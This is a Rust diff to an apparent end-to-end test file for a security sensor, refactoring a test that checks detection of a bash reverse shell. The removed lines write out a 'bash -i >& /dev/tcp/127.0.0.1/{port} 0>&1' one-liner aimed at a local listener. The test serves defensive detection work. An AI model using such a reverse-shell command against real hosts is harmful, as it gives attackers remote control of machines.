@@ -4,11 +4,10 @@ use std::{
     io::{Read, Write},
     net::{TcpListener, TcpStream},
     os::unix::net::UnixListener,
-    process::{Command, Stdio},
     time::Duration,
 };
 
-use sensor_e2e::{Agent, argv, event_of, java_reenact, marker, num};
+use sensor_e2e::{Agent, ReverseShell, argv, event_of, java_reenact, marker, num};
 use serde_json::Value;
 
 fn pid() -> u64 {
@@ -123,20 +122,11 @@ fn refused_ipv6_and_unix_connects() {
 #[test]
 fn bash_dev_tcp_reverse_shell_has_a_socket_on_stdio() {
     let mut agent = Agent::start(&[]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let tag = marker("revsh");
-    let mut shell = Command::new("/bin/bash")
-        .args([
-            "-c",
-            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
-        ])
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
+    let ReverseShell {
+        mut shell,
+        mut conn,
+        port,
+    } = ReverseShell::start(&marker("revsh"));
     conn.set_read_timeout(Some(Duration::from_secs(10)))
         .unwrap();
     conn.write_all(b"echo reverse-$((6*7)); exit\n").unwrap();
